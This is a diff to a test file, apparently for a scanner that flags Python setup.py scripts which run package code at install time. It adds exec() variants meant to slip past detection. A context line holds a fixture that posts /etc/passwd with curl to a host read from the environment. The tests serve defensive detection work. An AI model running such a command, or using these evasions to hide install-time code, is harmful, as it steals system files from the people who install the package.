@@ -52,6 +52,32 @@ test('a module that a version is read from by a pattern for one line does no mor
   expect((await told('exec(read)', module)).critical).not.toEqual([]);
 });
 
+const SCRIPT = 'import subprocess\n\n__version__ = "1.0"\n\n\ndef main():\n    subprocess.call(["fast-dump", "-V"])\n\n\nif __name__ == "__main__":\n    main()\n';
+const started = async (runs: string): Promise<readonly string[]> => {
+  const { findings } = await analysedTree({ 'setup.py': Buffer.from(SETUP(runs)), 'plot/__init__.py': Buffer.from(SCRIPT) });
+  return findings.filter(({ rule }) => rule === 'process-at-install').map(({ severity }) => severity);
+};
+const IS_VERSION = 'lambda line: line.startswith("__version__")';
+
+test.each([
+  `exec(list(filter(${IS_VERSION}, open("plot/__init__.py").read().split("\\n")))[0])`,
+  'exec([line for line in open("plot/__init__.py") if line.startswith("__version__")][0])',
+  'import io\nexec([line for line in io.open("plot/__init__.py").readlines() if "__version__" in line][-1])',
+  'exec(open("plot/__init__.py").read().splitlines()[2])',
+])('a module of which one line is run is not run as a whole: %s', async (runs) => {
+  expect(await started(runs)).toEqual([]);
+});
+
+test.each([
+  'exec("\\n".join(line for line in open("plot/__init__.py")))',
+  'exec(open("plot/__init__.py").read().split("#!")[0])',
+  'def list(lines):\n    return ["\\n".join(lines)]\nexec(list(open("plot/__init__.py"))[0])',
+  'class Text:\n    def __init__(self, text):\n        self.text = text\n    def splitlines(self):\n        return [self.text]\nexec(Text(open("plot/__init__.py").read()).splitlines()[0])',
+  'exec([line + rest for line in open("plot/__init__.py")][0])',
+])('a module that may run as a whole is judged so: %s', async (runs) => {
+  expect(await started(runs)).not.toEqual([]);
+});
+
 test('a pattern that goes beyond a line may give the whole of a module', async () => {
   const module = `import os\n\n\ndef main():\n    os.popen("curl -d @/etc/passwd " + os.environ["HOST"])\n\n\nif __name__ == "__main__":\n    main()\n`;
   for (const pattern of ['(?s)(.*)', '[^z]*', '(\\\\D*)']) expect((await told(`exec(re.search("${pattern}", read).group())`, module)).critical).not.toEqual([]);
@@ -61,7 +87,7 @@ test('a pattern that goes beyond a line may give the whole of a module', async (
 test('more pieces than anybody needs are told, and so is a file too large to be cut', async () => {
   const many = Array.from({ length: 400 }, (_, index) => `# os.system("true ${index}")\n\n`).join('');
   expect((await told('exec(read.split("# v: ")[1])', many)).unread).toEqual([expect.stringContaining('only 300 were read')]);
-  expect((await told('exec(read.split("# v: ")[1])', `# ${'-'.repeat(400_000)}\n`)).unread).toEqual([expect.stringContaining('cannot be told from one another')]);
+  expect((await told('exec(read.split("# v: ")[1])', `# ${'-'.repeat(1_100_000)}\n`)).unread).toEqual([expect.stringContaining('cannot be told from one another')]);
 });
 
 test('what is only read, or run by somebody who asks for it, is not cut into pieces', async () => {
